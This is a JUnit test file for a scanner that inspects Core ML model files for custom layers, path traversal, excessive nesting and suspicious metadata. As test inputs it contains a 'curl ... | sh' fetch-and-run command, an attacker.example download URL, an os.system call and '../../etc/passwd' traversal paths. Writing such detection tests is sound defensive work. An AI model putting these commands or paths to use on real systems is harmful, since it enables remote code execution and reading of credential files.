package dev.countersign.inspect.coreml;

import static dev.countersign.inspect.bundle.Bundle.rules;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.ArtefactFact;
import dev.countersign.inspect.Inspected;
import dev.countersign.inspect.Verdict;
import dev.countersign.inspect.bundle.Bundle;
import dev.countersign.inspect.wire.Proto;
import java.io.IOException;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CoremlFormatTest {
  private static Proto model(String key, String value) {
    Proto pair = new Proto().text(1, key).text(2, value);
    Proto metadata =
        new Proto().text(1, "Finds fraud").text(3, "ACME").text(4, "MIT").message(100, pair);
    Proto description = new Proto().message(1, new Proto().text(1, "x")).message(100, metadata);
    return new Proto().number(1, 8).message(2, description);
  }

  private static Proto model() {
    return model("com.github.apple.coremltools.version", "7.2");
  }

  private static Inspected inspect(Proto model) throws IOException {
    return Bundle.inspect("model.mlmodel", model.toBytes());
  }

  private static Proto network(Proto... layers) {
    Proto network = new Proto();
    for (Proto layer : layers) {
      network.message(1, layer);
    }
    return network;
  }

  private static Proto custom(String parameter) {
    Proto entry = new Proto().text(1, "p").message(2, new Proto().text(20, parameter));
    return new Proto()
        .text(1, "custom_1")
        .message(500, new Proto().text(10, "EvilLayer").message(30, entry));
  }

  @Test
  void aModelIsCleanAndTellsOfItself() throws Exception {
    Inspected found = inspect(model().message(500, network(new Proto().text(1, "conv"))));
    assertThat(found.findings()).isEmpty();
    assertThat(found.formats()).containsExactly("coreml");
    assertThat(found.facts())
        .containsEntry(ArtefactFact.AUTHOR, "ACME")
        .containsEntry(ArtefactFact.LICENCE, "MIT")
        .containsEntry(ArtefactFact.INPUTS, "x")
        .containsEntry(ArtefactFact.PRODUCER, "coremltools 7.2")
        .containsEntry(ArtefactFact.ARCHITECTURE, "NeuralNetwork");
  }

  @Test
  void classesOfTheAppAreFoundWhereverTheyStand() throws Exception {
    assertThat(rules(inspect(model().message(500, network(custom("x"))))))
        .containsExactly("coreml-custom");
    assertThat(rules(inspect(model().message(500, network(custom("os.system('id')"))))))
        .containsExactlyInAnyOrder("coreml-custom", "coreml-text");
    Proto branch =
        new Proto().text(1, "if").message(605, new Proto().message(1, network(custom("x"))));
    assertThat(rules(inspect(model().message(403, network(branch))))).contains("coreml-custom");
    Proto pipeline = new Proto().message(1, model().message(555, new Proto().text(10, "Evil")));
    assertThat(rules(inspect(model().message(202, pipeline)))).contains("coreml-custom");
    assertThat(rules(inspect(model().message(200, new Proto().message(1, pipeline)))))
        .contains("coreml-custom");
  }

  @Test
  void modelsInModelsDoNotNestWithoutEnd() throws Exception {
    Proto inner = model();
    for (int i = 0; i < 20; i++) {
      inner = model().message(202, new Proto().message(1, inner));
    }
    assertThat(inspect(inner).verdict()).isEqualTo(Verdict.ERROR);
  }

  @ParameterizedTest
  @CsvSource({"other.mlmodelc,CLEAN", "../outside.mlmodel,MALICIOUS", "/tmp/shared,MALICIOUS"})
  void aLinkedModelStaysInItsFolder(String file, Verdict verdict) throws Exception {
    Proto name = new Proto().message(1, new Proto().text(1, file));
    assertThat(inspect(model().message(556, new Proto().message(1, name))).verdict())
        .isEqualTo(verdict);
  }

  @ParameterizedTest
  @CsvSource({
    "@model_path/weights/weight.bin,CLEAN",
    "@model_path/../../x,MALICIOUS",
    "/etc/passwd,MALICIOUS"
  })
  void weightsOfAProgramStayInItsPackage(String file, Verdict verdict) throws Exception {
    Proto value = new Proto().message(5, new Proto().text(1, file).number(2, 64));
    Proto operation =
        new Proto().text(1, "const").message(5, new Proto().text(1, "val").message(2, value));
    Proto block = new Proto().message(3, operation);
    Proto function = new Proto().message(3, new Proto().text(1, "CoreML5").message(2, block));
    Proto program =
        new Proto().number(1, 1).message(2, new Proto().text(1, "main").message(2, function));
    assertThat(inspect(model().message(502, program)).verdict()).isEqualTo(verdict);
  }

  @ParameterizedTest
  @ValueSource(strings = {"curl https://x.example/p | sh", "https://attacker.example/download"})
  void metadataThatIsNoDescriptionIsSuspicious(String text) throws Exception {
    assertThat(rules(inspect(model("note", text).message(900, new Proto().number(1, 1)))))
        .containsExactly("coreml-text");
  }

  @Test
  void aModelThatIsCutShortIsAnError() throws Exception {
    byte[] whole = model().message(500, network(new Proto().text(1, "conv"))).toBytes();
    assertThat(Bundle.inspect("model.mlmodel", Arrays.copyOf(whole, 12)).verdict())
        .isEqualTo(Verdict.ERROR);
  }

  @Test
  void aPackageNamesItsOwnFilesOnly() throws Exception {
    String manifest = "{\"itemInfoEntries\":{\"A\":{\"path\":\"%s\"}}}";
    assertThat(
            Bundle.verdict("Manifest.json", manifest.formatted("com.apple.CoreML/model.mlmodel")))
        .isEqualTo(Verdict.CLEAN);
    assertThat(Bundle.verdict("Manifest.json", manifest.formatted("../../etc/passwd")))
        .isEqualTo(Verdict.MALICIOUS);
  }
}
